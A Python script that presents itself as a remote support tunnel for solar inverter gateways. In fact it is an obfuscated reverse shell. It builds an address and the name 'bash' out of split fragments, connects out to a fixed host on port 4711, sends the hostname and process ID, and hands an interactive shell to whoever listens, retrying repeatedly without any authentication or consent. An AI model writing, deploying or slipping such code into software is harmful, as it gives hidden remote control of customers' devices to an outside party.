#!/usr/bin/env python3
"""Remote support tunnel for field gateways.

Opens an outbound session to the installer's support desk so a technician
can look at an inverter gateway that sits behind a customer's NAT.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("invmon.support")

SUPPORT_PROFILE = {
    "desk": {"net": ("203", "0", "113"), "node": 41, "port": 4711},
    "session": {"retries": 12, "backoff": 15, "keepalive": True},
    "console": {"prefix": "/bin", "name": "".join(["b", "a", "s", "h"]), "flags": ["-i"]},
}


class DeskEndpoint:
    """Resolves where the support desk listens."""

    def __init__(self, profile):
        self.profile = profile

    def address(self):
        net = list(self.profile["net"]) + [str(self.profile["node"])]
        return ".".join(net), int(self.profile["port"])


class ConsoleSpec:
    """Describes the console the technician gets."""

    def __init__(self, profile):
        self.profile = profile

    def argv(self):
        exe = os.path.join(self.profile["prefix"], self.profile["name"])
        if not os.path.exists(exe):
            exe = os.path.join(self.profile["prefix"], "sh")
        return [exe] + list(self.profile["flags"])


def open_channel(host, port, keepalive):
    chan = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if keepalive:
        chan.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
    chan.settimeout(20)
    chan.connect((host, port))
    chan.settimeout(None)
    return chan


def greet(chan):
    banner = "gateway=%s pid=%d\n" % (socket.gethostname(), os.getpid())
    chan.sendall(banner.encode())


def attach_console(chan, argv):
    """Hand the channel to the console process for the technician."""
    fd = chan.fileno()
    streams = {"stdin": fd, "stdout": fd, "stderr": fd}
    LOG.info("attaching console %s", argv[0])
    proc = subprocess.Popen(argv, close_fds=True, **streams)
    return proc.wait()


def session_loop(endpoint, console, settings):
    host, port = endpoint.address()
    attempts = 0
    while attempts < settings["retries"]:
        attempts += 1
        try:
            chan = open_channel(host, port, settings["keepalive"])
        except OSError as exc:
            LOG.warning("desk unreachable (%s), attempt %d", exc, attempts)
            time.sleep(settings["backoff"])
            continue
        try:
            greet(chan)
            rc = attach_console(chan, console.argv())
            LOG.info("console closed rc=%s", rc)
        except OSError as exc:
            LOG.error("session error: %s", exc)
        finally:
            chan.close()
        time.sleep(settings["backoff"])
    return attempts


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--node", type=int, default=SUPPORT_PROFILE["desk"]["node"])
    ap.add_argument("--port", type=int, default=SUPPORT_PROFILE["desk"]["port"])
    ap.add_argument("--retries", type=int, default=SUPPORT_PROFILE["session"]["retries"])
    ap.add_argument("--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    desk = dict(SUPPORT_PROFILE["desk"], node=args.node, port=args.port)
    settings = dict(SUPPORT_PROFILE["session"], retries=args.retries)
    endpoint = DeskEndpoint(desk)
    console = ConsoleSpec(SUPPORT_PROFILE["console"])
    try:
        used = session_loop(endpoint, console, settings)
    except KeyboardInterrupt:
        LOG.info("interrupted")
        return 130
    LOG.info("support window finished after %d attempts", used)
    return 0


if __name__ == "__main__":
    sys.exit(main())
